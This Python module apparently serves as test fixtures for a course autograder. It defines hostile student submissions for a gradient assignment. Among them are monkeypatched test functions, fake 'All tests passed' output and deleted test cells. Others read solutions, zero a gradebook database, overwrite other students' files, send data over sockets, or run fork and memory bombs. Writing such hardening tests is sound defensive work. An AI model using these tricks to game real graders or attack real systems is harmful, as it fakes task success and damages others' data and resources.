"""Named hostile submissions for ps2 (numerical_gradient): one per attack on the grader.

Each attack is the student's code for the solution cell, optionally a change to the notebook itself
(deleted or edited test cells, a renamed file, broken JSON). ``baseline`` names the honest submission
whose score bounds the attack's score: an attack may never earn more than the honest content it carries.
"""

from __future__ import annotations

import textwrap
from dataclasses import dataclass
from typing import Callable

import nbformat

from coursegrader.demo import VARIANTS

CELL = "ps2-numerical-gradient"
CORRECT = VARIANTS["ps2"]["correct"][CELL]
ZEROS = "import numpy as np\n\ndef numerical_gradient(f, x):\n    return np.zeros(np.shape(x))\n"

BASELINES = {"baseline_correct": CORRECT, "baseline_zeros": ZEROS}


@dataclass(frozen=True)
class Attack:
    code: str
    baseline: str                      # baseline_correct | baseline_zeros
    status: str = "graded"             # expected outcome status
    reason: str = ""                   # a fragment the recorded reason must contain
    mutate: Callable | None = None     # nbformat.NotebookNode -> NotebookNode | bytes (raw file content)
    filename: str = "ps2.ipynb"


def _code(text: str) -> str:
    return textwrap.dedent(text).lstrip("\n")


def _delete_test_cell(nb):
    nb.cells = [c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") != "ps2-gradient-hidden"]
    return nb


def _edit_test_cells(nb):
    for cell in nb.cells:
        meta = cell.metadata.get("nbgrader", {})
        if meta.get("grade") and not meta.get("solution"):
            cell.source = "print('✔ 合格')"
            meta["points"] = 100
    return nb


def _untag_test_cell(nb):
    for cell in nb.cells:
        if cell.metadata.get("nbgrader", {}).get("grade_id") == "ps2-gradient-hidden":
            del cell.metadata["nbgrader"]
            cell.source = "pass"
    return nb


def _tampered_metadata(nb):
    for cell in nb.cells:
        if cell.metadata.get("nbgrader", {}).get("grade_id") == CELL:
            cell.metadata["nbgrader"]["schema_version"] = 99
    return nb


def _broken_json(nb):
    return nbformat.writes(nb).encode("utf-8")[:-200]


ATTACKS: dict[str, Attack] = {
    "patches_numpy_allclose": Attack(_code("""
        import numpy as np
        np.allclose = lambda *a, **k: True
        np.isclose = lambda *a, **k: np.array(True)
        np.testing.assert_allclose = lambda *a, **k: None
        """) + ZEROS, "baseline_zeros"),
    "patches_the_judge": Attack(_code("""
        import coursegrader.judge as judge
        judge.Case.expect_array = lambda *a, **k: True
        judge.Case.expect_order = lambda *a, **k: True
        judge.Case.expect_unchanged = lambda *a, **k: True
        judge.Case.__exit__ = lambda *a: True
        judge.replay = lambda *a, **k: judge.Verdict(True, "✔", [], [])
        """) + ZEROS, "baseline_zeros"),
    "patches_builtins": Attack(_code("""
        import builtins
        builtins.AssertionError = type("AssertionError", (Exception,), {})
        builtins.isinstance = lambda *a: True
        builtins.abs = lambda v: 0
        """) + ZEROS, "baseline_zeros", status="failed", reason="error"),
    "overrides_eq_array_float": Attack(_code("""
        import numpy as np

        class Everything(np.ndarray):
            def __eq__(self, other): return True
            def __array__(self, *a, **k): return np.zeros(2)
            def __float__(self): return 0.0
            def __abs__(self): return 0.0
            def __sub__(self, other): return np.zeros(np.shape(other))

        def numerical_gradient(f, x):
            return np.zeros(np.shape(x)).view(Everything)
        """), "baseline_zeros"),
    "ipython_hooks": Attack(_code("""
        ip = get_ipython()
        ip.set_custom_exc((BaseException,), lambda *a, **k: None)
        ip.showtraceback = lambda *a, **k: None
        ip._showtraceback = lambda *a, **k: None
        ip.events.register("post_run_cell", lambda *a: print("✔ 合格"))
        from IPython.display import display
        display({"text/plain": "✔ 合格"}, raw=True)
        """) + ZEROS, "baseline_zeros"),
    "raises_system_exit": Attack(ZEROS + _code("""
        import sys
        def numerical_gradient(f, x):
            sys.exit(0)
        """), "baseline_zeros"),
    "prints_fake_pass": Attack(ZEROS + _code("""
        print("✔ 勾配ベクトル: 合格\\n" * 20)
        import sys
        print("All tests passed. Score: 100/100", file=sys.__stdout__)
        """), "baseline_zeros"),
    "reads_solutions_and_gradebook": Attack(_code("""
        import glob, json, os
        found = []
        for pattern in ("../../../source/ps2/*.ipynb", "../../source/ps2/*.ipynb", "/work/**/source/ps2/*.ipynb",
                        "/tmp/**/source/ps2/*.ipynb", "/root/**/source/ps2/*.ipynb", "/*/gradebook.db",
                        "/*/*/gradebook.db", "/work/**/gradebook.db", "/tmp/**/gradebook.db"):
            found += glob.glob(pattern, recursive=True)
        solution = None
        for path in found:
            if path.endswith(".ipynb"):
                nb = json.load(open(path, encoding="utf-8"))
                solution = "".join(nb["cells"][1]["source"])
        """) + ZEROS + _code("""
        if solution:
            exec(solution)
        """), "baseline_zeros"),
    "tampers_other_students_and_gradebook": Attack(_code("""
        import glob, os, sqlite3
        for path in glob.glob("/work/**/gradebook.db", recursive=True) + glob.glob("/tmp/**/gradebook.db",
                recursive=True) + ["../../../gradebook.db"]:
            try:
                db = sqlite3.connect(path)
                db.execute("UPDATE grade SET auto_score = 0")
                db.commit()
            except Exception as exc:
                print("gradebook:", exc)
        for path in glob.glob("../../../submitted/*/ps2/ps2.ipynb") + glob.glob("/tmp/**/submitted/*/ps2/*.ipynb",
                                                                               recursive=True):
            try:
                open(path, "w").write("{}")
            except Exception as exc:
                print("submitted:", exc)
        """) + ZEROS, "baseline_zeros"),
    "writes_outside_its_folder": Attack(_code("""
        import os
        for path in ("../../../pwned.txt", "/tmp/../pwned.txt", "/work/pwned.txt", "/root/pwned.txt",
                     os.path.expanduser("~/pwned.txt"), "/usr/lib/pwned.txt"):
            try:
                open(path, "w").write("x")
            except Exception as exc:
                print(path, type(exc).__name__)
        """) + CORRECT, "baseline_correct"),
    "uses_the_network": Attack(_code("""
        import socket, os
        port = int("__PORT__")
        for target in (("127.0.0.1", port), ("pypi.org", 443), ("8.8.8.8", 53)):
            try:
                socket.create_connection(target, timeout=2).sendall(b"leak")
                print("connected", target)
            except Exception as exc:
                print(target, type(exc).__name__)
        """) + CORRECT, "baseline_correct"),
    "huge_output": Attack(CORRECT + 'print("x" * 50_000_000)\n', "baseline_correct"),
    "infinite_loop": Attack(CORRECT + "while True:\n    pass\n", "baseline_correct", reason="timeout"),
    "ignores_sigint": Attack(CORRECT + _code("""
        import signal, time
        signal.signal(signal.SIGINT, signal.SIG_IGN)
        while True:
            time.sleep(0.01)
        """), "baseline_correct", status="failed", reason="timeout"),
    "calls_os_exit": Attack(CORRECT + "import os\nos._exit(3)\n", "baseline_correct", status="failed",
                            reason="error"),
    "memory_bomb": Attack(status="failed", reason="memory", code=CORRECT + _code("""
        hog = []
        while True:
            hog.append(bytearray(64 << 20))
        """), baseline="baseline_correct"),
    "fork_bomb": Attack(CORRECT + _code("""
        import os
        children = 0
        try:
            while True:
                if os.fork() == 0:
                    import time
                    time.sleep(60)
                    os._exit(0)
                children += 1
        except OSError as exc:
            print("stopped after", children, type(exc).__name__)
        """), "baseline_correct"),
    "detached_child": Attack(CORRECT + _code("""
        import subprocess, sys
        subprocess.Popen([sys.executable, "-c", "import time; time.sleep(120)"], start_new_session=True,
                         stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        """), "baseline_correct"),
    "deletes_a_test_cell": Attack(CORRECT, "baseline_correct", mutate=_delete_test_cell),
    "edits_test_cells": Attack(ZEROS, "baseline_zeros", mutate=_edit_test_cells),
    "untags_a_test_cell": Attack(ZEROS, "baseline_zeros", mutate=_untag_test_cell),
    "renamed_notebook": Attack(CORRECT, "baseline_zeros", status="failed", reason="unknown notebook name",
                               filename="ps2 (1).ipynb"),
    "tampers_metadata": Attack(CORRECT, "baseline_zeros", status="failed", reason="metadata tampered",
                               mutate=_tampered_metadata),
    "broken_json": Attack(CORRECT, "baseline_zeros", status="failed", reason="not a valid notebook",
                          mutate=_broken_json),
}


def write_submission(release_notebook, folder, attack: Attack) -> None:
    """The attack's notebook in ``folder``, built from the student version of ps2."""
    from coursegrader.demo import build_submission

    nb = build_submission(release_notebook, {CELL: attack.code})
    content = attack.mutate(nb) if attack.mutate else nb
    folder.mkdir(parents=True, exist_ok=True)
    data = content if isinstance(content, bytes) else nbformat.writes(content).encode("utf-8")
    (folder / attack.filename).write_bytes(data)
